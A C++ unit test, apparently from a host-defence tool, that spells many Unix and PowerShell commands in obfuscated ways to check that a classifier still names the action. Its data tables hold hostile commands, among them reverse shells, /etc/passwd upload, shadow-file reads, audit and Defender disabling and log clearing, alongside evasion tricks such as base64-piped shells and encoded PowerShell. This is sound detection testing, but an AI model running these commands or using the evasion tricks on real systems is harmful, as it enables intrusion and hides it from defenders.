// One meaning, many spellings, for scripts: commands of Unix's shells and of PowerShell are spelt in every
// way that the shell takes, by a seeded generator, and must all give the same action; near misses spelt in
// the same ways must not. spellings_test.cc does so for programs of Windows.
//
// LW_SEED chooses the seed; it is printed when something fails.

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <random>
#include <set>
#include <span>

#include "base/text.h"
#include "command/reading_testing.h"

namespace landwarden::command {
namespace {

/// Words of a line. Of PowerShell: the command's names, parted by '/', then its parameters and values.
struct Spelt {
  std::string_view action;  ///< that must be found; with near_miss: that must not
  std::string_view line;
  bool near_miss = false;
};

constexpr Spelt kUnix[] = {
    {"download", "curl -o /tmp/a http://203.0.113.9/a"},
    {"download", "wget -q http://203.0.113.9/a"},
    {"upload", "curl -T /etc/passwd http://203.0.113.9/a"},
    {"reverse_shell", "nc -e /bin/sh 203.0.113.9 4444"},
    {"reverse_shell", "socat exec:/bin/bash tcp:203.0.113.9:443"},
    {"tunnel_open", "ssh -R 9999:127.0.0.1:22 op7@203.0.113.9"},
    {"remote_command_run", "ssh op7@fs02 uptime"},
    {"service_stop", "systemctl stop cron"},
    {"logging_service_stop", "systemctl stop auditd"},
    {"firewall_off", "iptables -F"},
    {"packet_capture", "tcpdump -i eth0 -w /tmp/c"},
    {"password_file_read", "cat /etc/shadow"},
    {"setuid_set", "chmod u+s /tmp/sh"},
    {"setuid_list", "find / -perm -4000"},
    {"archive_create", "tar czf /tmp/x.tgz /etc"},
    {"decode_file", "base64 -d /tmp/a"},
    {"account_create", "useradd op7"},
    {"cron_list", "crontab -l"},
    {"cron_change", "crontab /tmp/c"},
    {"history_delete", "history -c"},
    {"system_info", "uname -a"},
    {"process_list", "ps aux"},
    {"connections_list", "ss -tnp"},
    {"self_query", "whoami"},
    {"session_list", "who"},
    {"network_config_show", "ifconfig -a"},
    {"port_scan", "nmap -sS 10.0.0.5"},
    {"raw_disk_read", "dd if=/dev/sda of=/tmp/d"},
    {"kernel_module_load", "insmod /tmp/m.ko"},
    {"permissions_change", "chmod 777 /tmp/a"},
    {"timestamp_change", "touch -r /bin/ls /tmp/a"},
    {"file_delete", "rm -rf /srv/plans"},
    {"history_delete", "rm -rf /var/log/audit"},
    {"unit_change", "systemctl enable upd.service"},
    {"quarantine_remove", "xattr -d com.apple.quarantine /tmp/a"},
    {"launch_agent_load", "launchctl load /tmp/a.plist"},
    {"protection_disable", "setenforce 0"},
    {"apple_script_run", "osascript -e beep"},
    {"shell_run", "bash -i"},
    {"credential_tool_run", "secretsdump.py corp/op7@dc01"},
    {"policy_show", "auditctl -l"},
    {"remote_tool_run", "rustdesk --service"},
    {"firewall_show", "iptables -L"},
    {"web_request", "curl http://203.0.113.9/a"},
    {"public_address_lookup", "curl https://ifconfig.me"},
    {"archive_extract", "tar xzf /tmp/x.tgz"},
    {"software_list", "dpkg -l"},
    {"listener_open", "nc -lvp 4444"},
    {"screen_capture", "screencapture /tmp/a.png"},
    {"keychain_read", "security dump-keychain"},
    {"script_inline", "python3 -c pass"},
    {"container_run", "docker run --rm alpine ls"},
    {"container_breakout", "podman run -v /:/host alpine ls"},
    {"port_proxy_add", "nft add rule ip nat prerouting tcp dport 80 redirect to 8080"},
    {"cron_change", "tee -a /etc/crontab"},

    {"download", "curl --version", true},
    {"upload", "curl -o /tmp/a http://203.0.113.9/a", true},
    {"reverse_shell", "nc -zv 10.0.0.5 22", true},
    {"tunnel_open", "ssh op7@fs02 uptime", true},
    {"firewall_off", "iptables -L", true},
    {"password_file_read", "cat /etc/hosts", true},
    {"container_breakout", "docker run -v /srv/web:/web alpine ls", true},
    {"setuid_set", "chmod 644 /tmp/sh", true},
    {"setuid_list", "find / -name hosts", true},
    {"logging_service_stop", "systemctl status auditd", true},
    {"cron_change", "crontab -l", true},
    {"raw_disk_read", "dd if=/tmp/a of=/tmp/b", true},
    {"protection_disable", "setenforce 1", true},
};

constexpr Spelt kPowerShell[] = {
    {"download", "Invoke-WebRequest/iwr/wget/curl -Uri http://203.0.113.9/a -OutFile c:\\x\\a"},
    {"upload", "Invoke-RestMethod/irm -InFile c:\\x\\a -Uri http://203.0.113.9/a"},
    {"process_list", "Get-Process/gps/ps"},
    {"service_list", "Get-Service/gsv"},
    {"service_stop", "Stop-Service/spsv -Name Fax"},
    {"process_kill", "Stop-Process/spps/kill -Name notepad"},
    {"eventlog_clear", "Clear-EventLog -LogName Security"},
    {"remote_command_run", "Invoke-Command/icm -ComputerName FS02 -ScriptBlock {hostname}"},
    {"file_list", "Get-ChildItem/gci/ls/dir -Path c:\\x"},
    {"file_copy", "Copy-Item/cpi/cp/copy -Path c:\\x\\a -Destination c:\\x\\b"},
    {"file_delete", "Remove-Item/ri/rm/del/erase -Path c:\\x\\a"},
    {"archive_create", "Compress-Archive -Path c:\\plans -DestinationPath c:\\x\\a.zip"},
    {"account_create", "New-LocalUser -Name op7"},
    {"group_member_add", "Add-LocalGroupMember -Group Administrators -Member op7"},
    {"protection_disable", "Set-MpPreference -DisableRealtimeMonitoring 1"},
    {"directory_create", "mkdir/md c:\\x\\y"},
    {"program_start", "Start-Process/saps/start -FilePath calc.exe"},
    {"program_start_hidden", "Start-Process/saps/start -FilePath calc.exe -WindowStyle Hidden"},
    {"file_list_remote", "Get-ChildItem/gci/ls/dir -Path \\\\FS02\\c$\\Users"},
    {"expression_run", "Invoke-Expression/iex -Command hostname"},
    {"security_software_list",
     "Get-CimInstance/gcim -Namespace root/SecurityCenter2 -ClassName AntiVirusProduct"},
    {"wmi_query", "Get-WmiObject/gwmi -Class win32_share"},
    {"wmi_query_remote", "Get-WmiObject/gwmi -Class win32_share -ComputerName FS02"},
    {"clipboard_read", "Get-Clipboard/gcb"},
    {"eventlog_read", "Get-EventLog -LogName System"},
    {"registry_set", "Set-ItemProperty/sp -Path HKCU:\\Software\\x -Name a -Value b"},

    {"download", "Get-Content/gc/cat/type -Path c:\\x\\a", true},
    {"upload", "Invoke-WebRequest/iwr -Uri http://203.0.113.9/a -OutFile c:\\x\\a", true},
    {"process_kill", "Get-Process/gps/ps -Name notepad", true},
    {"eventlog_clear", "Get-EventLog -LogName Security", true},
    {"service_stop", "Get-Service/gsv -Name Fax", true},
    {"account_create", "Get-LocalUser -Name op7", true},
    {"protection_disable", "Get-MpPreference", true},
};

std::vector<std::string> parted(std::string_view text, char by) {
  std::vector<std::string> out;
  for (std::size_t at = 0; at < text.size();) {
    const std::size_t end = std::min(text.find(by, at), text.size());
    out.emplace_back(text.substr(at, end - at));
    at = end + 1;
  }
  return out;
}

class Speller {
 public:
  explicit Speller(std::uint64_t seed) : random_(seed) {}

  std::string unix_line(const Spelt& line);
  std::string powershell(const Spelt& line);

 private:
  std::size_t below(std::size_t n) { return random_() % n; }
  bool maybe(unsigned one_in) { return below(one_in) == 0; }
  template <class T>
  const T& one_of(const std::vector<T>& all) {
    return all[below(all.size())];
  }
  std::string shell_word(const std::string& word, bool first);
  std::string cased(std::string_view text);
  std::string in_pieces(const std::string& text);
  std::string cmdlet(const std::string& names);

  std::mt19937_64 random_;
};

/// A word in one of the ways in which a shell of Unix takes it.
std::string Speller::shell_word(const std::string& word, bool first) {
  const std::size_t middle = word.size() / 2;
  switch (below(first ? 8 : 10)) {
    case 0:
      return "'" + word + "'";
    case 1:
      return "\"" + word + "\"";
    case 2:
      return word.substr(0, middle) + "''" + word.substr(middle);
    case 3:
      return word.substr(0, middle) + "\"" + word.substr(middle) + "\"";
    case 4: {
      const std::size_t letter = word.find_first_of("abcdefghijklmnopqrstuvwxyz");
      return letter == std::string::npos ? word : word.substr(0, letter) + "\\" + word.substr(letter);
    }
    case 5: {
      static constexpr std::string_view kDigits = "0123456789abcdef";
      std::string out = "$'";
      for (const char c : word) {
        const auto byte = static_cast<unsigned char>(c);
        out += maybe(2) ? std::string("\\x") + kDigits[byte >> 4] + kDigits[byte & 15] : std::string(1, c);
      }
      return out + "'";
    }
    default:
      return word;
  }
}

std::string Speller::unix_line(const Spelt& line) {
  std::vector<std::string> words = parted(line.line, ' ');
  const bool built_in = words.front() == "history";
  if (!built_in && maybe(3))
    words.front() = one_of<std::string>({"/usr/bin/", "/bin/", "/usr/sbin/"}) + words.front();
  std::string text;
  const bool ifs = maybe(6);
  for (std::size_t i = 0; i < words.size(); ++i) {
    if (i > 0) text += ifs ? one_of<std::string>({"${IFS}", "$IFS"}) : std::string(1 + below(3), ' ');
    // A name goes on with letters: "$IFSa" is another variable.
    const std::string word = shell_word(words[i], i == 0);
    const bool runs_on =
        text.ends_with("$IFS") && std::isalnum(static_cast<unsigned char>(word.front())) != 0;
    text += runs_on ? "'" + words[i] + "'" : word;
  }
  switch (below(9)) {
    case 0:
      return text.contains('\'')
                 ? text
                 : one_of<std::string>({"sh -c ", "bash -c ", "/bin/sh -c "}) + "'" + text + "'";
    case 1:
      return built_in ? text : "sudo " + text;
    case 2:
      return "cd /tmp && " + text;
    case 3:
      return "echo " + base64(text) + " | base64 -d | " + one_of<std::string>({"sh", "bash", "/bin/bash"});
    case 4:
      return text + one_of<std::string>({" 2>/dev/null", " >/dev/null 2>&1", " || true", "; true", " # now"});
    case 5:
      return "if true; then " + text + "; fi";
    case 6:
      return built_in ? text : one_of<std::string>({"nohup ", "env ", "command ", "exec "}) + text;
    default:
      return text;
  }
}

std::string Speller::cased(std::string_view text) {
  std::string out(text);
  for (char& c : out) {
    if (c >= 'a' && c <= 'z' && maybe(2)) c = static_cast<char>(c - 32);
  }
  return maybe(2) ? out : std::string(text);
}

/// A string of PowerShell in an expression that gives it.
std::string Speller::in_pieces(const std::string& text) {
  if (text.size() < 2) return "'" + text + "'";
  const std::size_t middle = 1 + below(text.size() - 1);
  const std::string left = text.substr(0, middle), right = text.substr(middle);
  return one_of<std::string>(
      {"('" + left + "'+'" + right + "')", "('{1}{0}' -f '" + right + "','" + left + "')",
       "(-join('" + left + "','" + right + "'))", "'" + text + "'", "\"" + text + "\""});
}

std::string Speller::cmdlet(const std::string& names) {
  const std::string name = one_of(parted(names, '/'));
  if (maybe(4)) return one_of<std::string>({"& ", ". "}) + in_pieces(name);
  std::string out = cased(name);
  // Not before a letter that the two mean something with.
  const std::size_t tick = 1 + below(out.size() - 1);
  if (maybe(4) && !std::string_view("abefnrtuv0-").contains(text::ascii_lower(out[tick])))
    out.insert(tick, "`");
  return out;
}

std::string Speller::powershell(const Spelt& line) {
  const std::vector<std::string> words = parted(line.line, ' ');
  std::string text = cmdlet(words.front());
  for (std::size_t i = 1; i < words.size(); ++i) {
    text += std::string(1 + below(2), ' ');
    const bool is_value = !words[i].starts_with('-') && !words[i].starts_with('{');
    if (is_value && maybe(3)) {
      text += in_pieces(words[i]);
    } else {
      text += is_value ? words[i] : cased(words[i]);
    }
  }
  switch (below(6)) {
    case 0:
      return "powershell -nop -" + std::string("encodedcommand").substr(0, 1 + below(14)) + " " +
             encoded_command(text);
    case 1:
      return text.contains('\'') ? text : one_of<std::string>({"iex '", "Invoke-Expression '"}) + text + "'";
    case 2:
      return "$a = 1; " + text + " | Out-Null";
    case 3:
      return "try { " + text + " } catch { }";
    default:
      return text;
  }
}

std::uint64_t chosen_seed() {
  const char* chosen = std::getenv("LW_SEED");
  return chosen != nullptr ? std::strtoull(chosen, nullptr, 10) : 20260302;
}

template <class Spell>
void expect_all(std::span<const Spelt> lines, Origin origin, Spell&& spell) {
  constexpr int kEach = 400;
  const std::uint64_t seed = chosen_seed();
  SCOPED_TRACE("LW_SEED=" + std::to_string(seed));
  std::uint64_t number = 0;
  for (const Spelt& line : lines) {
    std::set<std::string> distinct;
    int wrong = 0;
    for (int i = 0; i < kEach && wrong < 3; ++i) {
      Speller speller(seed * 1'000'003 + number++);
      const std::string text = spell(speller, line);
      distinct.insert(text);
      const bool right = read(Input{.line = text, .origin = origin}).has(line.action) != line.near_miss;
      wrong += right ? 0 : 1;
      EXPECT_TRUE(right) << line.action << (line.near_miss ? " (near miss)" : "") << "\n  " << text;
    }
    EXPECT_TRUE(wrong > 0 || distinct.size() > 100) << distinct.size() << " spellings of " << line.line;
  }
}

TEST(ScriptSpellings, UnixShellsAllMeanTheSame) {
  expect_all(kUnix, Origin::unix,
             [](Speller& speller, const Spelt& line) { return speller.unix_line(line); });
}

TEST(ScriptSpellings, PowerShellAllMeansTheSame) {
  expect_all(kPowerShell, Origin::powershell,
             [](Speller& speller, const Spelt& line) { return speller.powershell(line); });
}

}  // namespace
}  // namespace landwarden::command
